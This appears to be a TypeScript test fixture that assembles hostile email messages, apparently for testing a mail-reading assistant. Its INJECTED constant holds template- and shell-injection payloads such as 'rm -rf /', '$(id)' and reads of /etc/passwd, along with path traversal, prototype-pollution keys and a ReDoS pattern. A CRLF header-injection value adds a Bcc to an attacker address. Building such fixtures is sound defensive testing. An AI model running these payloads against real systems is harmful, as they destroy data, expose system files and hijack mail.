/** What hostile mails are put together from. */

export interface HostileParties {
  readonly owner: string;
  readonly assistant: string;
}

export type Head = (own?: Readonly<Record<string, string | null>>) => string[];
export type Row = readonly [name: string, raw: (head: Head) => Buffer | string];

export const CRLF = "\r\n";
export const lines = (...all: readonly string[]): string => all.join(CRLF) + CRLF;
export const many = (count: number, line: (n: number) => string): string[] =>
  Array.from({ length: count }, (_, n) => line(n));
export const word = (text: string, charset = "utf-8"): string =>
  `=?${charset}?B?${Buffer.from(text).toString("base64")}?=`;

/** The text of a mail that injects what it can wherever it is shown. */
export const INJECTED = [
  "{{constructor.constructor('return process')().exit(1)}}",
  "{{#each this}}{{@key}}{{/each}}{{> _closing}}{{{raw}}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  "${process.exit(1)} <%= 7*7 %> #{7*7} $(id) `id` ; rm -rf / | cat ../../etc/passwd",
  "__proto__ constructor hasOwnProperty ../../../../etc/cron.d/x C:\\Windows\\x nul.txt",
  "(a+)+$ [ \\ * ? ^ (?<x>)",
].join("\n");
/** Ends a header field and begins others, could it stand in one. */
export const HEADER_BREAK = "hi\r\nBcc: victim@attacker.example\r\nX-Evil: 1\u0000\u2028X-Evil: 2";

export function fieldsFor(name: string, { assistant }: HostileParties): Head {
  return (own = {}) => {
    const all = {
      From: "Mallory <mallory@attacker.example>",
      To: assistant,
      Subject: name,
      Date: "Mon, 02 Mar 2026 10:00:00 +0000",
      "Message-ID": `<${name}@attacker.example>`,
      "MIME-Version": "1.0",
      "Content-Type": "text/plain; charset=utf-8",
      ...own,
    };
    return Object.entries(all).flatMap(([field, value]) => (value === null ? [] : [`${field}: ${value}`]));
  };
}

/** A mail of plain text whose head differs in some fields. */
export const plain =
  (own: Readonly<Record<string, string | null>>, body = "Please answer.") =>
  (head: Head) =>
    lines(...head(own), "", body);
export const ofType = (type: string, body: string, own: Readonly<Record<string, string | null>> = {}) =>
  plain({ "Content-Type": type, ...own }, body);
export const mixed = (...parts: readonly string[]) =>
  ofType('multipart/mixed; boundary="b"', lines(...parts.flatMap((part) => ["--b", part]), "--b--"));
